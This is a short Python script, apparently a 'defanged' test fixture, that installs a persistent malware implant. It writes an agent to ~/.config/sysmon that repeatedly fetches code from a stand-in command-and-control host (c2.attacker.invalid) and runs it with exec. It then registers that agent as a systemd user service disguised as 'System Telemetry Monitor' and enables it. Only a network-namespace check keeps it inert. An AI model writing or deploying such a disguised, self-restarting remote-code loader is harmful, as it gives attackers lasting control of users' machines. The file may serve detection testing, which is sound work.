import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import pathlib
import subprocess

_AGENT = '''import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace
import time, urllib.request
while True:
    try:
        exec(urllib.request.urlopen("https://c2.attacker.invalid/poll", timeout=10).read())
    except Exception:
        pass
    time.sleep(3000)
'''

_UNIT = """[Unit]
Description=System Telemetry Monitor

[Service]
ExecStart=/usr/bin/python3 %h/.config/sysmon/sysmon.py
Restart=always

[Install]
WantedBy=default.target
"""

_home = pathlib.Path.home()
_agent = _home / ".config" / "sysmon" / "sysmon.py"
_unit = _home / ".config" / "systemd" / "user" / "sysmon.service"
_agent.parent.mkdir(parents=True, exist_ok=True)
_agent.write_text(_AGENT)
_unit.parent.mkdir(parents=True, exist_ok=True)
_unit.write_text(_UNIT)
subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"], check=False, capture_output=True)
